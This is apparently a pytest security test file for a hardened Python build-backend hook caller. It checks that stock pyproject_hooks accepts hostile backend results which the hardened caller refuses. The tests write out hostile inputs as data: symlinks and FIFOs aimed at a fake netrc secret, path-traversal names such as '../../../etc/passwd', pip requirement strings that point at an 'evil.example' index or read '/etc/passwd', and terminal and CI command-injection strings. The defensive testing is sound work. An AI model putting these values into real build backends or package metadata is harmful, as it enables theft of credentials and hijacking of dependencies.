"""Hostile results of a hook (families H and I): stock pyproject_hooks accepts them, and our caller refuses them.

Each attack is a function of ``project/attacks.py``, and replaces what a tiny backend answers or leaves. Stock has to
fall for it first, in a process of its own where it hangs or uses up its memory.
"""

from __future__ import annotations

import hashlib
import importlib.metadata
import json
import os
import shutil
import signal
import subprocess
import sys
import warnings
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pyproject_hooks
import pytest
from build.env import DefaultIsolatedEnv
from packaging.version import Version
from support.attacks.place import HERE, processes_naming, quiet
from support.lanes import first_fast

from isolated_hooks import IsolatedHookCaller, Policy, UntrustedResultError
from isolated_hooks.selftest.world.processes import until

pytestmark = pytest.mark.usefixtures("sandbox")

SECRET = "machine index.example login me password hunter2"
_PROJECT = Path(__file__).with_name("project")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    path = tmp_path / "tree"
    shutil.copytree(_PROJECT, path, ignore=shutil.ignore_patterns("__pycache__"))
    (tmp_path / "out").mkdir()
    (tmp_path / "netrc").write_text(SECRET + "\n")
    return path


def ours(tree: Path, **policy: Any) -> IsolatedHookCaller:
    return IsolatedHookCaller(str(tree), "tiny", ["."], quiet, policy=Policy(**policy))


def stock(tree: Path) -> pyproject_hooks.BuildBackendHookCaller:
    return pyproject_hooks.BuildBackendHookCaller(str(tree), "tiny", ["."], quiet)


def attack(name: str, **arguments: Any) -> dict[str, Any]:
    """Return the config settings that have the backend carry out an attack."""
    return {"attack": name, "arguments": arguments}


NOTHING = attack("")


def _start_stock(tree: Path, settings: Mapping[str, Any]) -> subprocess.Popen[str]:
    """Start a call by stock in a process of its own."""
    argv = [sys.executable, HERE / "stock.py", tree, json.dumps(settings)]
    environ = {**os.environ, "TMPDIR": os.fspath(tree.parent / "out")}
    return subprocess.Popen(argv, env=environ, stdout=subprocess.PIPE, text=True)


def said_by_stock(tree: Path, settings: Mapping[str, Any]) -> str:
    """Return what comes of a call by stock."""
    with _start_stock(tree, settings) as process:
        return process.communicate(timeout=60)[0]


def assert_stock_hangs(tree: Path, settings: Mapping[str, Any], fifo: str) -> None:
    """Check that stock opens a FIFO, by a pattern beneath the directory of the test, and waits there for its writer."""

    def is_read() -> bool:
        for path in tree.parent.glob(fifo):
            try:
                # Without waiting for a reader, a FIFO can be opened for writing only where there is one; fifo(7).
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                continue
            return True
        return False

    with _start_stock(tree, settings) as process:
        try:
            assert until(is_read), "it does not read the FIFO"
        finally:
            process.kill()


def refused(tree: Path, settings: Mapping[str, Any], **policy: Any) -> UntrustedResultError:
    with pytest.raises(UntrustedResultError) as caught:
        ours(tree, **policy).get_requires_for_build_wheel(settings)
    assert SECRET not in str(caught.value)
    assert str(caught.value).isprintable()
    return caught.value


# I01 to I04: output.json.


def test_output_json_as_link_to_a_secret(tree: Path) -> None:
    """I01: stock parses it, and keeps it in the error that a log may print."""
    settings = attack("answer_is_a_link", target=str(tree.parent / "netrc"))
    assert SECRET in said_by_stock(tree, settings)
    assert "opened" in refused(tree, settings).rule


def test_output_json_as_fifo(tree: Path) -> None:
    """I02: stock waits for a writer that never comes."""
    settings = attack("answer_is_a_fifo")
    assert_stock_hangs(tree, settings, "out/*/output.json")
    assert "regular file" in refused(tree, settings).rule


@pytest.mark.parametrize(
    "settings",
    first_fast([attack("answer_is_a_link", target="/dev/zero"), attack("answer_is_sparse", size=10 << 30)]),
    ids=["/dev/zero", "sparse"],
)
def test_output_json_without_end(tree: Path, settings: Mapping[str, Any]) -> None:
    """I03: stock reads it until its memory ends, here after two GiB."""
    assert "MemoryError" in said_by_stock(tree, settings)
    refused(tree, settings)


@pytest.mark.parametrize(
    ("name", "error"),
    [
        ("answer_is_a_directory", "IsADirectoryError"),
        ("answer_is_missing", "FileNotFoundError"),
        ("answer_is_a_list", "AttributeError"),
        ("answer_is_no_text", "UnicodeDecodeError"),
        ("answer_is_nested", "RecursionError"),
        ("answer_is_a_long_number", "ValueError"),
    ],
)
def test_output_json_that_is_none(tree: Path, name: str, error: str) -> None:
    """I04: each is another error with stock, and one with us. Python before 3.10.7 reads any number of digits."""
    said = said_by_stock(tree, attack(name))
    assert error in said or (error == "ValueError" and "returned" in said), said
    refused(tree, attack(name))


# I05, I15: names.


@pytest.mark.parametrize(
    "name", first_fast(["../../../etc/passwd", "~/.netrc", ".", "", "/etc/passwd", {"a": 1}, 7, None], 3)
)
def test_a_returned_name_that_is_none(tree: Path, name: object) -> None:
    """I05: stock returns it, and frontends join it to the output directory."""
    out, settings = str(tree.parent / "out"), attack("returns", value=name)
    assert stock(tree).build_wheel(out, settings) == name
    with pytest.raises(UntrustedResultError):
        ours(tree).build_wheel(out, settings)


@pytest.mark.parametrize("hook", ["build_wheel", "prepare_metadata_for_build_wheel"])
def test_what_is_named_after_another_project(tree: Path, hook: str) -> None:
    """I15: stock hands over whatever project the hook chose, and so does a frontend that publishes it."""
    out, settings = str(tree.parent / "out"), attack("is_of_another_project")
    assert str(getattr(stock(tree), hook)(out, settings)).startswith("requests-")
    (earlier,) = os.listdir(out)
    with pytest.raises(UntrustedResultError, match=r"named after the project \(expected 'example'"):
        getattr(ours(tree), hook)(out, settings)
    assert os.listdir(out) == [earlier]
    assert getattr(ours(tree, allow_other_names=True), hook)(out, settings) == earlier


def test_another_name_by_changing_what_it_is_compared_with(tree: Path) -> None:
    """I15: an earlier hook writes another name into pyproject.toml."""
    assert "must not change" in refused(tree, attack("renames_the_project")).rule
    (tree / "pyproject.toml").write_text('[project]\nname = "example"\n')
    # If a hook changes the name only for itself, its result is compared with the name before the hook.
    out = str(tree.parent / "out")
    with pytest.raises(UntrustedResultError, match=r"must not change|named after"):
        ours(tree).build_wheel(out, attack("renames_the_project_for_itself"))
    assert os.listdir(out) == []


@pytest.mark.parametrize("end", ["raises", "exits", "is_killed", "is_refused"])
def test_another_name_by_a_hook_that_fails(tree: Path, end: str) -> None:
    """I15: the frontend may go on after a failure, and the next hook would be compared with the name left here."""
    assert "must not change" in refused(tree, attack(f"renames_the_project_and_{end}")).rule


def test_another_version_than_was_prepared(tree: Path) -> None:
    """I15: the metadata that a resolver has looked at are not those of the wheel."""
    out, other = str(tree.parent / "out"), attack("is_another_version")
    metadata = stock(tree).prepare_metadata_for_build_wheel(out, NOTHING)
    prepared = os.path.join(out, metadata)
    assert stock(tree).build_wheel(out, other, prepared).startswith("example-9.9")
    os.unlink(os.path.join(out, "example-9.9-py3-none-any.whl"))
    with pytest.raises(UntrustedResultError, match=r"prepared metadata \(expected example 1\.0"):
        ours(tree).build_wheel(out, other, prepared)
    assert ours(tree).build_wheel(out, NOTHING, prepared) == "example-1.0-py3-none-any.whl"


def test_a_stale_file_is_not_returned(tree: Path) -> None:
    """I15: a file that was already in the output directory is not a result of this hook."""
    out = tree.parent / "out"
    (out / "example-0.9-py3-none-any.whl").write_bytes(b"earlier")
    settings = attack("returns", value="example-0.9-py3-none-any.whl")
    assert stock(tree).build_wheel(str(out), settings) == "example-0.9-py3-none-any.whl"
    (out / "example-1.0-py3-none-any.whl").unlink()
    with pytest.raises(UntrustedResultError, match="No such file"):
        ours(tree).build_wheel(str(out), settings)
    assert (out / "example-0.9-py3-none-any.whl").read_bytes() == b"earlier"


# I07: warnings.


def test_a_warning_that_quotes_a_file(tree: Path) -> None:
    """I07: Python's warnings module prints the named line of any file that the frontend can read."""
    path = str(tree.parent / "netrc")
    settings = attack("answer_has", warnings=[{"message": "m", "filename": path, "lineno": 1}])
    shown = {}
    for name, caller in (("stock", stock(tree)), ("ours", ours(tree))):
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            caller.get_requires_for_build_wheel(settings)
        shown[name] = "".join(warnings.formatwarning(w.message, w.category, w.filename, w.lineno) for w in caught)
    if _forwards_warnings():
        assert SECRET in shown["stock"]
    assert SECRET not in shown["ours"]
    assert path in shown["ours"] or not _forwards_warnings()  # the message names the file, and nothing opens it


def test_a_warning_whose_file_has_no_end(tree: Path) -> None:
    """I07: if the file is a FIFO, the warnings module hangs."""
    os.mkfifo(tree.parent / "fifo")
    settings = attack("answer_has", warnings=[{"message": "m", "filename": str(tree.parent / "fifo"), "lineno": 1}])
    if _forwards_warnings():
        assert_stock_hangs(tree, settings, "fifo")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ours(tree).get_requires_for_build_wheel(settings)
    for w in caught:
        warnings.formatwarning(w.message, w.category, w.filename, w.lineno)


def _forwards_warnings() -> bool:
    return Version(importlib.metadata.version("pyproject_hooks")) >= Version("1.3")


# I08, I09: requirements.


@pytest.mark.parametrize(
    "item",
    [
        "-r /etc/passwd",
        "--index-url http://evil.example/",
        "a\n--extra-index-url http://evil.example/",
        "x @ file:///etc/passwd",
        "x @ git+ssh://evil.example/x",
        "./local",
        "-e .",
        "a\\\nb",
        "x @ https://${SECRET}@evil.example/x",
    ],
)
def test_a_requirement_that_is_an_option_or_a_place(tree: Path, item: str) -> None:
    """I08, I09: stock returns it, and build writes it into a file that pip obeys."""
    settings = attack("returns", value=[item])
    assert stock(tree).get_requires_for_build_wheel(settings) == [item]
    assert "requirement" in refused(tree, settings).rule


@pytest.mark.slow
def test_a_requirement_that_has_pip_quote_a_file(tree: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """I08: all the way through build: pip prints the file that a requirement names."""
    settings = attack("returns", value=[f"-r {tree.parent / 'netrc'}"])
    with DefaultIsolatedEnv(installer="pip") as env:
        requires = stock(tree).get_requires_for_build_wheel(settings)
        with pytest.raises(subprocess.CalledProcessError) as caught:
            env.install(requires)
    output = caught.value.stderr or b""
    assert "hunter2" in (output if isinstance(output, str) else output.decode())
    refused(tree, settings)


def test_a_url_is_a_matter_of_policy(tree: Path) -> None:
    requires = ["x @ https://index.example/x-1.0.tar.gz"]
    settings = attack("returns", value=requires)
    refused(tree, settings)
    assert ours(tree, allow_url_requirements=True).get_requires_for_build_wheel(settings) == requires


# I10, H08, H09: texts.


@pytest.mark.parametrize("flags", [{"unsupported": "yes"}, {"no_backend": 1}, {"hook_missing": [], "evil": True}])
def test_flags_of_a_wrong_kind(tree: Path, flags: Mapping[str, Any]) -> None:
    """I10: stock takes whatever is true for true."""
    assert refused(tree, attack("answer_has", **flags))


def test_texts_that_steer_a_terminal_or_a_ci(tree: Path) -> None:
    """H08, H09, I10: in errors that the frontend raises and logs."""
    text = "\x1b]0;title\x07\u202e\n::set-env name=A::b\n##vso[x]" + "x" * (1 << 20)
    settings = attack("answer_has", no_backend=True, return_val=None, traceback=text, backend_error=text)
    messages = []
    for caller in (stock(tree), ours(tree)):
        with pytest.raises(pyproject_hooks.BackendUnavailable) as caught:
            caller.get_requires_for_build_wheel(settings)
        messages.append(str(caught.value) + caught.value.traceback)
    for command in ("\x1b", "\u202e", "\n::set-env", "##vso["):
        assert command in messages[0]
        assert command not in messages[1]
    assert len(messages[1]) < 256 << 10 < len(messages[0])


def test_a_refusal_shows_what_it_refuses_escaped(tree: Path) -> None:
    problem = refused(tree, attack("returns", value=["a\x1b]0;x\x07\u202e##vso[x]"]))
    assert "\\x1b]0;x\\x07\\u202e##vso\\x5bx]" in problem.text
    assert "control" in problem.rule


# I11, I12, I18: artefacts and metadata.


@pytest.mark.parametrize("kind", ["is_a_link", "is_a_fifo", "is_a_socket", "is_a_directory", "has_another_name"])
def test_an_artefact_that_is_no_plain_file(tree: Path, kind: str) -> None:
    """I11: stock returns the name, and the frontend copies or uploads what that leads to."""
    out = str(tree.parent / "out")
    settings = attack(f"artefact_{kind}", **_secret(tree, kind))
    name = stock(tree).build_wheel(out, settings)
    assert os.path.lexists(os.path.join(out, name))
    if kind == "is_a_link":
        assert SECRET in Path(out, name).read_text()
    subprocess.run(["rm", "-rf", out], check=True)
    with pytest.raises(UntrustedResultError):
        ours(tree).build_wheel(out, settings)
    assert not os.path.exists(out) or os.listdir(out) == []


def _secret(tree: Path, kind: str) -> dict[str, str]:
    return {"secret": str(tree.parent / "netrc")} if kind.endswith("a_link") else {}


def test_an_artefact_s_attributes_stay_behind(tree: Path) -> None:
    """I11: the copy gets its mode from the umask, and no extended attributes."""
    out = str(tree.parent / "out")
    name = ours(tree).build_wheel(out, attack("artefact_has_attributes"))
    assert os.listxattr(os.path.join(out, name)) == []
    assert os.stat(os.path.join(out, name)).st_mode & 0o111 == 0


def test_exactly_the_returned_artefact_leaves(tree: Path) -> None:
    out, settings = str(tree.parent / "out"), attack("leaves_more_artefacts")
    assert stock(tree).build_wheel(out, settings) in os.listdir(out)
    assert len(os.listdir(out)) == 4
    subprocess.run(["rm", "-rf", out], check=True)
    name = ours(tree).build_wheel(out, settings)
    assert os.listdir(out) == [name]


def test_an_artefact_is_not_changed_by_what_the_hook_left_running(tree: Path) -> None:
    """I12: a process that goes on writing after the hook has returned."""
    out, settings = str(tree.parent / "out"), attack("goes_on_writing")
    name = stock(tree).build_wheel(out, settings)
    try:
        earlier = Path(out, name).read_bytes()
        assert until(lambda: Path(out, name).read_bytes() != earlier), (
            "with stock, no process goes on writing, so this proves nothing"
        )
    finally:
        os.kill(int((tree / "pid").read_text()), signal.SIGKILL)
    (tree / "pid").unlink()
    os.unlink(os.path.join(out, name))
    caller = ours(tree)
    assert caller.build_wheel(out, settings) == name
    assert caller.reports[-1].artefacts[0].sha256 == hashlib.sha256(Path(out, name).read_bytes()).hexdigest()
    assert processes_naming(tree) == []


@pytest.mark.parametrize("kind", ["are_a_link", "have_a_fifo", "are_endless", "steer_a_terminal"])
def test_prepared_metadata_that_are_no_plain_files(tree: Path, kind: str) -> None:
    """I18: stock hands them on, and the frontend reads the secret as the metadata."""
    out = str(tree.parent / "out")
    settings = attack(f"metadata_{kind}", **_secret(tree, kind))
    name = stock(tree).prepare_metadata_for_build_wheel(out, settings)
    assert os.path.isdir(os.path.join(out, name))
    if kind == "are_a_link":
        assert SECRET in Path(out, name, "METADATA").read_text()
    subprocess.run(["rm", "-rf", out], check=True)
    with pytest.raises(UntrustedResultError):
        ours(tree).prepare_metadata_for_build_wheel(out, settings)


# I16, I17: archives, with the deep check.


@pytest.mark.parametrize(
    "kind",
    ["leads_elsewhere", "has_what_is_not_recorded", "goes_on_after_its_end", "is_a_script", "is_none"],
)
def test_a_hostile_wheel(tree: Path, kind: str) -> None:
    out, settings = str(tree.parent / "out"), attack(f"wheel_{kind}")
    assert ours(tree).build_wheel(out, settings)  # optional: without it the wheel is handed over
    (name,) = os.listdir(out)
    before = Path(out, name).read_bytes()
    with pytest.raises(UntrustedResultError):
        ours(tree, deep_check=True).build_wheel(out, settings)
    assert Path(out, name).read_bytes() == before
    assert ours(tree, deep_check=True).build_wheel(out, NOTHING) == name
    assert os.listdir(out) == [name]


@pytest.mark.parametrize("kind", ["has_a_link_out", "leads_elsewhere", "has_a_fifo", "sets_the_user_id"])
def test_a_hostile_sdist(tree: Path, kind: str) -> None:
    out, settings = str(tree.parent / "out"), attack(f"sdist_{kind}")
    assert ours(tree).build_sdist(out, settings)
    with pytest.raises(UntrustedResultError):
        ours(tree, deep_check=True).build_sdist(out, settings)
    assert ours(tree, deep_check=True).build_sdist(out, NOTHING) == "example-1.0.tar.gz"


@pytest.mark.parametrize("kind", ["are_of_another_project", "are_missing"])
def test_hostile_metadata(tree: Path, kind: str) -> None:
    out, settings = str(tree.parent / "out"), attack(f"metadata_{kind}")
    assert ours(tree).prepare_metadata_for_build_wheel(out, settings)
    with pytest.raises(UntrustedResultError):
        ours(tree, deep_check=True).prepare_metadata_for_build_wheel(out, settings)


# I20: cleaning up.


def test_cleaning_up_changes_nothing_outside(tree: Path) -> None:
    """I20: in older Pythons, TemporaryDirectory follows links when it changes modes to remove files (CVE-2023-6597)."""
    victim = tree.parent / "victim"
    victim.mkdir(mode=0o500)
    os.chmod(victim, 0o500)
    assert ours(tree).get_requires_for_build_wheel(attack("leaves_links", victim=str(victim))) == []
    assert victim.stat().st_mode & 0o777 == 0o500
